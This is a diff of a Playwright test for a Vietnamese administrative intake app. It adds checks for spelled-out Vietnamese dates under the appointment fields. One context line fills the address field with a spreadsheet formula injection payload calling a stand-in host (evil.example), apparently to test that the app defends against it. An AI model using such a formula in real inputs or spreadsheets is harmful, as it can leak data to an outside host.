@@ -89,6 +89,8 @@ describeBrowser('sidebars in Chromium', () => {
     await page.getByText('1.004194 · Đăng ký, quản lý cư trú · 7 ngày làm việc').waitFor();
     await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:30');
     await expect(page.locator('#appointment').textContent()).resolves.toBe('Hẹn trả: 17 giờ 00, ngày 11/03/2026');
+    // Spelled out under the field, which the browser draws in its own language (05/08 may read 5 August).
+    await expect(page.locator('#receivedAtVi').textContent()).resolves.toBe('Thứ Hai, 08 giờ 30, ngày 02/03/2026');
     await page.getByLabel('Họ và tên người nộp').fill('Nguyễn Thị Hoa');
     await page.getByLabel('Số CCCD / CMND / hộ chiếu').fill('001099012345');
     await page.getByLabel('Địa chỉ').fill('=IMPORTXML("http://evil.example","//a")');
@@ -174,6 +176,7 @@ describeBrowser('sidebars in Chromium', () => {
 
     await page.getByLabel('Thao tác').selectOption({ label: 'Xin lỗi và hẹn lại' });
     await page.getByLabel('Ngày giờ hẹn mới').fill('2026-03-16T17:00');
+    await expect(page.locator('#newDueAtVi').textContent()).resolves.toBe('Thứ Hai, 17 giờ 00, ngày 16/03/2026');
     await page.getByLabel('Lý do').fill('Chờ người nộp bổ sung');
     await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
     await page.getByText(/Xin lỗi và hẹn lại: hồ sơ .* nay “Chờ bổ sung”/).waitFor();
